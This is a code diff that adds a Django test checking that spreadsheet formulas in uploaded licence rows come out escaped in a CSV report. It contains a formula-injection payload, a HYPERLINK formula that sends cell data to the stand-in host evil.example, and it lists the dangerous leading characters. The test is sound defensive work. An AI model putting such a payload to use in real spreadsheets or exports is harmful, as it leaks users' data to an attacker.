@@ -177,3 +177,22 @@ def test_pages_cost_the_same_queries_whatever_their_length(
         assert client.get("/registry/imports/").status_code == 200
     with django_assert_max_num_queries(8):
         assert client.get(f"/registry/imports/{licence_import.pk}/").status_code == 200
+
+
+def test_a_formula_in_a_licence_row_comes_out_neutralised_in_the_report(
+    town, as_user, django_capture_on_commit_callbacks
+):
+    """Issue 15, finding 7: a cell a spreadsheet would run as a formula is written as text."""
+    client = as_user(town.users[Role.INSPECTOR])
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+    table = [
+        HEADER,
+        ["TL-1", formula, "1 Main St", "6/30/2027", "", ""],
+        ["TL-2", "@SUM(1+1)", "2 Main St", "", "", ""],
+    ]
+    licence_import = _upload_and_check(client, django_capture_on_commit_callbacks, table)
+    response = client.get(f"/registry/imports/{licence_import.pk}/report.csv")
+    lines = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    names = [line[4] for line in lines[1:]]
+    assert names == ["'" + formula, "'@SUM(1+1)"]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for line in lines for cell in line)
